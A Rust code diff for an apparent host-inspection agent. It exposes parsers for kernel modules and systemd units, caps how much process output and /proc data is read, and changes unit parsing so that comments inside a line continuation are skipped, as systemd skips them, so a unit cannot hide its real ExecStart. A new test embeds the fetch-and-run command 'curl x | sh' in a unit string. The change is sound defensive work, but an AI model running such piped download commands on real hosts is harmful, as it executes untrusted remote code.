@@ -18,7 +18,7 @@ use crate::provider::{CommandResult, ExecContext, ExecError};
 
 #[derive(Serialize, Debug)]
 #[serde(rename_all = "camelCase")]
-struct ModuleRecord {
+pub(super) struct ModuleRecord {
     name: String,
     size: u64,
     /// Reference count; none when the kernel cannot unload modules.
@@ -49,7 +49,7 @@ fn drivers_from(ctx: &ExecContext, path: &Path) -> Result<CommandResult, ExecErr
 }
 
 /// `name size refcount used,by, state address [(taint)]`.
-fn parse_module(line: &str) -> Option<ModuleRecord> {
+pub(super) fn parse_module(line: &str) -> Option<ModuleRecord> {
     let fields: Vec<&str> = line.split_whitespace().collect();
     if fields.len() < 5 {
         return None;
@@ -94,9 +94,11 @@ impl Unit {
         let mut section = String::new();
         let mut pending = String::new();
         for raw in text.lines() {
-            // A trailing backslash continues the line, as in systemd.
+            // A trailing backslash continues the line, as in systemd, which skips comment
+            // lines inside a continuation too: taking them as part of the value would let a
+            // unit show `ExecStart=/bin/sh -c #` while systemd runs the line after the comment.
             let line = raw.trim();
-            if pending.is_empty() && (line.starts_with('#') || line.starts_with(';')) {
+            if line.starts_with('#') || line.starts_with(';') {
                 continue;
             }
             if let Some(head) = line.strip_suffix('\\') {
@@ -204,12 +206,20 @@ pub(crate) fn find_unit(hfs: &HostFs, name: &str) -> Option<String> {
 /// Reads a kernel pseudo file of the agent's own /proc, bounded: its size says 0, so only
 /// the cap keeps a misbehaving file from filling memory.
 pub(crate) fn read_proc(ctx: &ExecContext, path: &Path) -> Result<String, ExecError> {
+    let bytes = read_proc_bytes(ctx, path, PROC_CAP)?;
+    Ok(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// [`read_proc`] with its own cap, as bytes: for tables that grow with the machine.
+pub(crate) fn read_proc_bytes(
+    ctx: &ExecContext,
+    path: &Path,
+    cap: u64,
+) -> Result<Vec<u8>, ExecError> {
     let device = path.to_string_lossy();
     let (mut file, meta) =
         open_regular(Path::new("/"), &device, false).map_err(|e| e.into_exec(&device))?;
-    let bytes = read_bounded(&mut file, &meta, PROC_CAP, &device, Some(ctx))
-        .map_err(|e| e.into_exec(&device))?;
-    Ok(String::from_utf8_lossy(&bytes).into_owned())
+    read_bounded(&mut file, &meta, cap, &device, Some(ctx)).map_err(|e| e.into_exec(&device))
 }
 
 /// Reads a unit; a unit masked by a link to /dev/null has no content.
@@ -425,12 +435,12 @@ fn enabled_units(hfs: &HostFs) -> BTreeSet<String> {
 }
 
 #[derive(Debug, Clone, PartialEq)]
-struct LiveUnit {
-    name: String,
-    load: String,
-    active: String,
-    sub: String,
-    description: String,
+pub(super) struct LiveUnit {
+    pub(super) name: String,
+    pub(super) load: String,
+    pub(super) active: String,
+    pub(super) sub: String,
+    pub(super) description: String,
 }
 
 /// Asks the host's systemd. From a DaemonSet the host's systemctl runs chrooted into
@@ -458,7 +468,7 @@ fn list_live_units(ctx: &ExecContext) -> Result<Vec<LiveUnit>, ExecError> {
 }
 
 /// `UNIT LOAD ACTIVE SUB DESCRIPTION...`, one per line.
-fn parse_list_units(output: &str) -> Vec<LiveUnit> {
+pub(super) fn parse_list_units(output: &str) -> Vec<LiveUnit> {
     output
         .lines()
         .filter_map(|line| {
@@ -490,6 +500,21 @@ fn parse_list_units(output: &str) -> Vec<LiveUnit> {
         .collect()
 }
 
+/// Most bytes of a program's output kept: `systemctl list-units` of a large host is a few
+/// MiB, and a host's binary run by chroot is not trusted to stop.
+const OUTPUT_CAP: u64 = 16 << 20;
+
+/// The first `cap` bytes of a pipe; the rest is read and dropped so that the program does
+/// not stall on a full pipe. A cut output loses its tail, ending mid-line at worst.
+fn read_kept(pipe: Option<impl Read>, cap: u64) -> Vec<u8> {
+    let mut buf = Vec::new();
+    if let Some(mut pipe) = pipe {
+        let _ = (&mut pipe).take(cap).read_to_end(&mut buf);
+        let _ = std::io::copy(&mut pipe, &mut std::io::sink());
+    }
+    buf
+}
+
 /// Runs a program to completion, reading its output as it goes (a full pipe would stall
 /// it), and kills it on cancellation, deadline or `limit`.
 pub(crate) fn run_bounded(
@@ -504,22 +529,10 @@ pub(crate) fn run_bounded(
         .stderr(Stdio::piped())
         .spawn()
         .map_err(|e| ExecError::Failed(format!("cannot run {program}: {e}")))?;
-    let mut stdout = child.stdout.take();
-    let mut stderr = child.stderr.take();
-    let out_reader = std::thread::spawn(move || {
-        let mut buf = Vec::new();
-        if let Some(s) = stdout.as_mut() {
-            let _ = s.read_to_end(&mut buf);
-        }
-        buf
-    });
-    let err_reader = std::thread::spawn(move || {
-        let mut buf = Vec::new();
-        if let Some(s) = stderr.as_mut() {
-            let _ = s.read_to_end(&mut buf);
-        }
-        buf
-    });
+    let stdout = child.stdout.take();
+    let stderr = child.stderr.take();
+    let out_reader = std::thread::spawn(move || read_kept(stdout, OUTPUT_CAP));
+    let err_reader = std::thread::spawn(move || read_kept(stderr, 4096));
     let stop_at = Instant::now() + limit;
     let status = loop {
         match child.try_wait() {
@@ -650,6 +663,19 @@ mod tests {
         assert_eq!(unit.exec_start().as_deref(), Some("/tmp/evil"));
         assert_eq!(unit.get("Service", "User"), Some("bob"));
         assert!(!unit.has_section("Install"));
+    }
+
+    /// Found by `fuzz_unit_files_known_values`: systemd.syntax(7) ignores a comment block
+    /// after a line that ends in a backslash and continues with what follows it.
+    #[test]
+    fn comments_inside_a_continuation_are_skipped_as_systemd_does() {
+        let unit = Unit::parse(
+            "[Service]\nExecStart=/bin/sh -c \\\n# looks like the end\n; and this\n  'curl x | sh'\n",
+        );
+        assert_eq!(
+            unit.exec_start().as_deref(),
+            Some("/bin/sh -c  'curl x | sh'")
+        );
     }
 
     #[test]
